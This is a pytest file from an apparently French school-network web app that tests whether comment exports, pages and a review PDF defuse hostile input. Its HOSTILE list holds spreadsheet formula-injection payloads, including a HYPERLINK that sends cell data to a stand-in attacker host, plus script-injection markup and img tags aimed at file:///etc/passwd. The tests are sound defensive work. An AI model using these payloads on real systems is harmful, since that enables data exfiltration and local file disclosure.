"""Hostile comments (issue 13 attack): formulas are neutralised in every file, markup is text on every page and PDF."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.web.pdf import LocalOnlyFetcher
from tests.comments import add_comments
from tests.dashboards import small_network
from tests.reviews.pdf import needs_poppler, pdf_text

HOSTILE = [
    '=HYPERLINK("http://attaquant.example/?x="&A1;"clic")',
    "+33 6 12 34 56 78 appelez",
    "-1+1 formule",
    "@SUM(A1:A9)",
    '<img src="http://attaquant.example/pixel.png"><script>alert(1)</script>',
    '<img src="file:///etc/passwd"> fin',
]


def _world(make):
    world = small_network(make)
    grand = world["est"][2]
    add_comments(make.db, world["now"], grand, HOSTILE)
    make.db.session.commit()
    return world, grand


def test_formulas_are_neutralised_in_the_comment_files(client, login, make):
    world, grand = _world(make)
    login("coordinator", world["network"])
    query = f"?campagne={world['now'].id}"
    for base in (f"/etablissement/{grand.uai}/commentaires", f"/reseau/{world['network'].id}/commentaires"):
        body = client.get(f"{base}/export.csv{query}").get_data()
        cells = [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";") for cell in row]
        texts = [c for c in cells if "attaquant" in c or "SUM" in c or "formule" in c or "appelez" in c]
        assert len(texts) >= 4, cells  # the comments are in the file: the test can fail
        assert all(not c.startswith(("=", "+", "-", "@")) for c in cells), texts
        book = load_workbook(io.BytesIO(client.get(f"{base}/export.xlsx{query}").get_data()))
        values = [str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
        assert any("SUM" in v for v in values)
        assert all(not v.startswith(("=", "+", "-", "@")) for v in values), values
        assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_markup_in_a_comment_is_text_on_the_pages(client, login, make):
    world, grand = _world(make)
    login("head", grand)
    html = client.get(f"/etablissement/{grand.uai}/commentaires?campagne={world['now'].id}").get_data(as_text=True)
    assert "&lt;img src=" in html and "&lt;script&gt;alert(1)" in html
    assert "<script>alert(1)" not in html and '<img src="http://attaquant' not in html


@needs_poppler
def test_the_review_pdf_fetches_nothing_a_comment_or_a_priority_names(client, login, make, monkeypatch):
    from app.clock import utcnow
    from app.services.roadmaps.roadmaps import PriorityInput, add_priority

    world, grand = _world(make)
    hostile = '<img src="http://attaquant.example/p.png"><img src="file:///etc/passwd">'
    add_priority(
        grand,
        world["now"].school_year,
        PriorityInput(
            subject="dimension:collectif", target=3, actions=hostile, responsables=hostile, indicator=hostile
        ),
        None,
        utcnow(),
    )
    make.db.session.commit()
    asked: list[str] = []
    original = LocalOnlyFetcher.fetch

    def spy(self, url, headers=None):
        asked.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(LocalOnlyFetcher, "fetch", spy)
    login("head", grand)
    response = client.get(f"/etablissement/{grand.uai}/bilan.pdf?annee={world['now'].school_year}")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    text = pdf_text(response.get_data())
    assert "Dimension — Collectif" in text  # the priority is in the review (its free texts are not printed there)
    assert not any("attaquant" in url or "passwd" in url for url in asked), asked
